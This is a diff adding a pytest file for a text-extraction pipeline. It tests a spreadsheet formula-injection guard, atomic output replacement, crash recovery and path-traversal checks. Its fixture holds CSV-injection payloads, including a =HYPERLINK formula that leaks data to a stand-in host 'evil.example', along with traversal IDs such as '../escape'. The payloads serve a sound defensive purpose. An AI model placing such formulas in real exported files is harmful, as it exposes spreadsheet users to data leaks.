@@ -1,0 +1,310 @@
+"""The contract files: formula guard, numbers kept as numbers, atomic replacement, determinism."""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import io
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from typer.testing import CliRunner
+
+import pipeline
+from pipeline import core, export
+from pipeline.cli import app
+from pipeline.errors import PipelineError
+
+ROOT = Path(__file__).resolve().parents[1]
+RAW = ROOT / "raw"
+FIXTURES = ROOT.parent / "shared" / "fixtures" / "raw"
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+HOSTILE = """=HYPERLINK('http://evil.example/?leak=1', 'Click for the report') Area inspection
+
++Finds good for leadership, poor for communication with victims.
+
+Chief Inspector of the HMCPSI, Kevin McGinty, said:
+
+“=HYPERLINK('http://evil.example', 'Read more') is what the Area must do.”
+
+“@SUM(A1:A9) and -2+3 are not formulas either,” said Kevin McGinty.
+
+“-1 is a number only in a spreadsheet,” said Kevin McGinty.
+
+Criteria Score
+=SUM(1+1) Good
++Leadership Good
+@Case preparation Good
+Communication with victims Poor
+
+Inspectors examined 120 files in September 2016.
+"""
+
+
+def read_csv(path: Path) -> list[dict[str, str]]:
+    with path.open(encoding="utf-8", newline="") as fh:
+        return list(csv.DictReader(fh))
+
+
+@pytest.fixture(scope="module")
+def hostile_out(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    folder = tmp_path_factory.mktemp("hostile")
+    (folder / "hostile.txt").write_text(HOSTILE, encoding="utf-8")
+    out = folder / "out"
+    result = CliRunner().invoke(
+        app, ["extract", str(folder / "hostile.txt"), "-o", str(out), "--xlsx"]
+    )
+    assert result.exit_code == 0, result.output
+    return out
+
+
+# --- formula guard -----------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("first", FORMULA_STARTS)
+def test_guard_prefixes_every_formula_start(first: str) -> None:
+    assert export.guard(first + "1+1") == "'" + first + "1+1"
+
+
+@pytest.mark.parametrize("text", ["", "Good", "'=already", " =spaced", "“=quoted", "1+1"])
+def test_guard_leaves_other_text_alone(text: str) -> None:
+    assert export.guard(text) == text
+
+
+def test_csv_cells_guarded_and_numbers_left_as_numbers() -> None:
+    header = ["release_id", "text", "value", "ratio", "start", "flag", "none"]
+    rows = [
+        ["=r", "-2 files", -2, -0.5, 0, True, None],
+        ["\tr", "\rcr", 3, 1.5, 7, False, None],
+    ]
+    parsed = list(csv.reader(io.StringIO(export._csv(header, rows), newline="")))
+    assert parsed[1] == ["'=r", "'-2 files", "-2", "-0.5", "0", "true", ""]
+    assert parsed[2] == ["'\tr", "'\rcr", "3", "1.5", "7", "false", ""]
+
+
+def test_every_csv_guards_the_hostile_release(hostile_out: Path) -> None:
+    texts = []
+    for name in ("releases", "sections", "scores", "quotes", "dates", "numbers", "errors"):
+        for row in read_csv(hostile_out / f"{name}.csv"):
+            for column, cell in row.items():
+                texts.append((name, column, cell))
+                assert not cell.startswith(FORMULA_STARTS), (name, column, cell)
+    cells = {cell for _, _, cell in texts}
+    assert "'=HYPERLINK('http://evil.example/?leak=1', 'Click for the report') Area inspection" in (
+        cells
+    )
+    assert "'=HYPERLINK('http://evil.example', 'Read more') is what the Area must do." in cells
+    assert "'=SUM(1+1)" in cells and "'+Leadership" in cells and "'@Case preparation" in cells
+    assert "'@SUM(A1:A9) and -2+3 are not formulas either" in cells
+    assert "'-1 is a number only in a spreadsheet" in cells
+    assert "'+Finds good for leadership, poor for communication with victims." in cells
+
+
+def test_json_keeps_the_exact_text(hostile_out: Path) -> None:
+    record = json.loads((hostile_out / "json" / "hostile.json").read_text(encoding="utf-8"))
+    assert record["title"].startswith("=HYPERLINK(")
+    assert record["quotes"][0]["text"].startswith("=HYPERLINK(")
+    assert record["text"] == HOSTILE
+
+
+def test_numeric_csv_columns_are_plain_numbers(hostile_out: Path) -> None:
+    for name, columns in {
+        "scores": ("score_value", "start", "end", "table"),
+        "numbers": ("value", "start", "end"),
+        "quotes": ("paragraphs", "start", "end"),
+        "releases": ("n_sections", "n_scores", "n_quotes", "n_warnings"),
+    }.items():
+        rows = read_csv(hostile_out / f"{name}.csv")
+        assert rows
+        for row in rows:
+            for column in columns:
+                float(row[column])  # a number, never a guarded string
+
+
+def test_workbook_cells_are_guarded_and_numbers_stay_numbers(hostile_out: Path) -> None:
+    from openpyxl import load_workbook
+
+    book = load_workbook(hostile_out / "releases.xlsx")
+    assert set(book.sheetnames) >= {"releases", "sections", "scores", "quotes", "errors"}
+    strings = []
+    for sheet in book.worksheets:
+        header = [c.value for c in sheet[1]]
+        for row in sheet.iter_rows(min_row=2):
+            for column, cell in zip(header, row, strict=True):
+                assert cell.data_type != "f", (sheet.title, column, cell.value)
+                if isinstance(cell.value, str):
+                    strings.append(cell.value)
+                    assert not cell.value.startswith(FORMULA_STARTS), (sheet.title, cell.value)
+                if column in {"start", "end", "score_value", "n_scores"}:
+                    assert isinstance(cell.value, int), (sheet.title, column, cell.value)
+    assert any(s.startswith("'=HYPERLINK(") for s in strings)
+
+
+def test_workbook_strips_control_characters_before_guarding() -> None:
+    assert export._xl("\x01=cmd") == "'=cmd"
+    assert export._xl("a\x00b") == "ab"
+    assert export._xl(5) == 5 and export._xl(None) is None
+
+
+# --- atomic replacement --------------------------------------------------------------------------
+
+
+def tree_hashes(folder: Path) -> dict[str, str]:
+    return {
+        p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
+        for p in sorted(folder.rglob("*"))
+        if p.is_file()
+    }
+
+
+@pytest.fixture(scope="module")
+def seed_report() -> core.RunReport:
+    return core.run([RAW], nlp=pipeline.load())
+
+
+def write(out: Path, report: core.RunReport) -> None:
+    export.write_outputs(out, report.releases, [], report.manifest)
+
+
+def dead_pid() -> int:
+    child = subprocess.Popen([sys.executable, "-c", "pass"])
+    child.wait()
+    return child.pid
+
+
+def test_a_failure_while_writing_leaves_the_previous_output(
+    tmp_path: Path, seed_report: core.RunReport, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    out = tmp_path / "out"
+    write(out, seed_report)
+    before = tree_hashes(out)
+
+    def fail(*args: object, **kwargs: object) -> None:
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(export, "_workbook", fail)
+    with pytest.raises(OSError, match="No space"):
+        export.write_outputs(out, seed_report.releases, [], seed_report.manifest, xlsx=True)
+    assert tree_hashes(out) == before
+    assert [p.name for p in tmp_path.iterdir()] == ["out"]  # no temporary folder left
+
+
+def test_replacement_without_renameat2(
+    tmp_path: Path, seed_report: core.RunReport, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    out = tmp_path / "out"
+    write(out, seed_report)
+    (out / "stale-extra.csv").write_text("x", encoding="utf-8")
+    monkeypatch.setattr(export, "_exchange", lambda a, b: False)
+    write(out, seed_report)
+    assert not (out / "stale-extra.csv").exists()
+    assert (out / "manifest.json").is_file()
+    assert [p.name for p in tmp_path.iterdir()] == ["out"]
+
+
+def test_recover_restores_an_output_moved_aside_by_a_crash(
+    tmp_path: Path, seed_report: core.RunReport
+) -> None:
+    out = tmp_path / "out"
+    write(out, seed_report)
+    before = tree_hashes(out)
+    out.rename(tmp_path / ".out.old")  # the crash came between the fallback's two renames
+    export.recover(out)
+    assert tree_hashes(out) == before
+    assert not (tmp_path / ".out.old").exists()
+
+
+def test_recover_drops_the_old_copy_once_the_new_output_is_in_place(
+    tmp_path: Path, seed_report: core.RunReport
+) -> None:
+    out = tmp_path / "out"
+    write(out, seed_report)
+    write(tmp_path / ".out.old", seed_report)
+    export.recover(out)
+    assert not (tmp_path / ".out.old").exists() and (out / "manifest.json").is_file()
+
+
+def test_stale_temporary_folders_of_dead_runs_are_removed_live_ones_kept(
+    tmp_path: Path, seed_report: core.RunReport
+) -> None:
+    out = tmp_path / "out"
+    dead = tmp_path / f".out.tmp-{dead_pid()}-abc"
+    old_style = tmp_path / f".out.tmp-{dead_pid()}"
+    live = tmp_path / f".out.tmp-{os.getpid()}-xyz"
+    other = tmp_path / ".other.tmp-1"
+    for folder in (dead, old_style, live, other):
+        (folder / "json").mkdir(parents=True)
+    write(out, seed_report)
+    assert not dead.exists() and not old_style.exists()
+    assert live.exists() and other.exists()
+
+
+def test_out_through_a_symlink_replaces_the_target(
+    tmp_path: Path, seed_report: core.RunReport
+) -> None:
+    target = tmp_path / "real"
+    write(target, seed_report)
+    link = tmp_path / "link"
+    link.symlink_to(target)
+    write(link, seed_report)
+    assert link.is_symlink() and (target / "manifest.json").is_file()
+
+
+@pytest.mark.parametrize("rid", ["../escape", "a/b", "..", ".", "", "x y"])
+def test_unsafe_release_ids_are_refused(
+    tmp_path: Path, seed_report: core.RunReport, rid: str
+) -> None:
+    import dataclasses
+
+    bad = dataclasses.replace(seed_report.releases[0], release_id=rid)
+    with pytest.raises(PipelineError):
+        export.write_outputs(tmp_path / "out", [bad], [], {})
+    assert not (tmp_path / "out").exists() and not (tmp_path / "escape.json").exists()
+
+
+def test_duplicate_release_ids_are_refused(tmp_path: Path, seed_report: core.RunReport) -> None:
+    import dataclasses
+
+    one = seed_report.releases[0]
+    two = dataclasses.replace(one, release_id=one.release_id.upper())
+    with pytest.raises(PipelineError, match="not unique"):
+        export.write_outputs(tmp_path / "out", [one, two], [], {})
+
+
+# --- determinism ---------------------------------------------------------------------------------
+
+
+def test_two_runs_give_byte_identical_files_apart_from_manifest_times(tmp_path: Path) -> None:
+    runner = CliRunner()
+    outs = [tmp_path / "a", tmp_path / "b"]
+    for out in outs:
+        result = runner.invoke(app, ["extract", str(RAW), str(FIXTURES), "-o", str(out), "-q"])
+        assert result.exit_code == 0, result.output
+    first, second = (tree_hashes(out) for out in outs)
+    assert first.keys() == second.keys()
+    assert len(first) > 10
+    differ = [name for name in first if first[name] != second[name]]
+    assert differ in ([], ["manifest.json"])
+    manifests = [json.loads((out / "manifest.json").read_text("utf-8")) for out in outs]
+    for m in manifests:
+        del m["started_at"], m["finished_at"]
+    assert manifests[0] == manifests[1]
+
+
+def test_cells_with_line_breaks_stay_in_their_row(tmp_path: Path) -> None:
+    name = tmp_path / "odd\r\nname\r.txt"
+    name.write_text("A title\n\nSome words.\n", encoding="utf-8")
+    out = tmp_path / "out"
+    result = CliRunner().invoke(app, ["extract", str(name), "=missing\r.txt", "-o", str(out)])
+    assert result.exit_code == 1
+    assert len(result.stderr.splitlines()) == 1  # the name is shown escaped, on one line
+    (row,) = read_csv(out / "releases.csv")
+    assert row["source_path"] == name.as_posix()
+    (error,) = read_csv(out / "errors.csv")
+    assert error["path"] == "'=missing\r.txt" and error["code"] == "missing"
+    assert (out / "errors.csv").read_bytes().count(b"\n") == 2
